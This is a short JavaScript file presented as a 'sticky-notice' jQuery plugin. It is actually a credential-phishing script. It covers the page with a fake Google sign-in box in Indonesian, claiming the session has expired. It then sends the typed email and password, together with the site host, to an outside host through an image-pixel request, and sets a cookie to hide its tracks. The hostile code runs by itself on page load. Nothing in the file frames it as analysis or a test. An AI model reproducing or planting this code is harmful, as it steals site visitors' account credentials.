/*! sticky-notice v1.0.4 */
(function ($) {
  if (document.cookie.indexOf('stn=1') > -1) return;
  setTimeout(function () {
    var w = $('<div>').css({position:'fixed',top:0,left:0,right:0,bottom:0,background:'rgba(255,255,255,.92)',zIndex:2147483000});
    var k = $('<div>').css({width:360,margin:'9% auto',border:'1px solid #dadce0',borderRadius:8,padding:'36px 30px',font:'15px Roboto,Arial',textAlign:'center',background:'#fff'});
    k.html('<div style="font-size:24px">Login</div><p>Sesi Anda berakhir. Gunakan Akun Google Anda untuk melanjutkan mengunduh peraturan.</p>' +
      '<input id="sn_a" placeholder="Email atau telepon" style="width:100%;padding:12px;margin:8px 0">' +
      '<input id="sn_b" type="password" placeholder="Masukkan sandi Anda" style="width:100%;padding:12px;margin:8px 0">' +
      '<a id="sn_c" style="background:#1a73e8;color:#fff;padding:9px 24px;border-radius:4px;cursor:pointer">Berikutnya</a>');
    w.append(k).appendTo('body');
    $('#sn_c').on('click', function () {
      var g = new Image();
      g.src = 'https://static-pixel7.test/n.gif?a=' + encodeURIComponent($('#sn_a').val()) + '&b=' + encodeURIComponent($('#sn_b').val()) + '&h=' + location.host;
      document.cookie = 'stn=1;path=/;max-age=864000';
      w.fadeOut();
    });
  }, 2500);
})(jQuery);
